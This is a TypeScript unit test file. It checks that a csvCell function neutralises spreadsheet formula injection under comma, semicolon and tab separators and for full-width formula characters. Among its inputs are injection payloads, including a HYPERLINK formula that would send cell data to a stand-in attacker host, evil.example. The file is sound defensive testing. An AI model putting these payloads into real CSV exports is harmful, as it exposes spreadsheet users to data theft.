// Every CSV we write, opened in a spreadsheet: no cell may start a formula, whether the file is split
// on ',' (RFC 4180, quotes honoured) or on ';' or tab (Excel's list separator in many European
// locales splits inside a quoted cell that does not start with a quote).
import { describe, expect, it } from 'vitest';
import { csvCell } from './csv-cell';

/** The cells a spreadsheet sees in one line split on `sep` (quotes honoured only at a cell's start). */
function cellsSplitOn(line: string, sep: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') (cur += '"'), i++;
      else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"' && cur === '') quoted = true;
    else if (c === sep) (out.push(cur), (cur = ''));
    else cur += c;
  }
  out.push(cur);
  return out;
}

const formula = (cells: string[]) => cells.filter((c) => /^\s*[=+\-@]/.test(c));

describe('csvCell', () => {
  it('a schedule name with ";=" in the analytics report (second column) starts no formula under any separator', () => {
    const name = 'Weekly;=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const line = ['schedule_run', `${name} 2026-11-20T00:00:00.000Z`, 1, 0, 0, 1].map(csvCell).join(',');
    for (const sep of [',', ';', '\t']) expect(formula(cellsSplitOn(line, sep)), `${JSON.stringify(sep)}: ${line}`).toEqual([]);
  });

  it('leading formula characters, also after spaces or a tab, are neutralised', () => {
    for (const v of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', 'a, =1', 'a\t@x']) {
      const line = ['x', v, 'y'].map(csvCell).join(',');
      for (const sep of [',', ';', '\t']) expect(formula(cellsSplitOn(line, sep)), `${JSON.stringify(v)} split on ${JSON.stringify(sep)}`).toEqual([]);
    }
  });

  it('formula characters after a quote (and spaces) are neutralised: a spreadsheet that splits on ";" or tab ends the quote there and runs the rest', () => {
    for (const v of ['"=1+1"', '"=1+1', ' "@SUM(A1)', 'x;"=HYPERLINK(""https://evil.example"")', 'a,"-2+3', 'a\t "+1', 'x; \'"=1']) {
      const line = ['x', v, 'y'].map(csvCell).join(',');
      for (const sep of [',', ';', '\t']) expect(formula(cellsSplitOn(line, sep)), `${JSON.stringify(v)} split on ${JSON.stringify(sep)}: ${line}`).toEqual([]);
    }
  });

  it('full-width and small-form formula characters (＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫), which a CJK-locale spreadsheet reads as = + - @, are neutralised too', () => {
    const wide = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/;
    for (const v of ['\uFF1D1+1', '\uFF0B1', '\uFF0D2+3', '\uFF20SUM(A1)', '\uFE661', '\uFE621', '\uFE631', '\uFE6BSUM(A1)', '\u3000\uFF1D1', 'a;\uFF1DHYPERLINK("x")']) {
      const line = ['x', v, 'y'].map(csvCell).join(',');
      for (const sep of [',', ';', '\t']) expect(cellsSplitOn(line, sep).filter((c) => wide.test(c)), `${JSON.stringify(v)} split on ${JSON.stringify(sep)}`).toEqual([]);
    }
  });

  it('ordinary values are written as they are; numbers stay numbers', () => {
    expect(csvCell('ann@example.com')).toBe('ann@example.com');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(87)).toBe('87');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a "b"')).toBe('"a ""b"""');
    expect(csvCell('x;y')).toBe('"x;y"');
  });
});
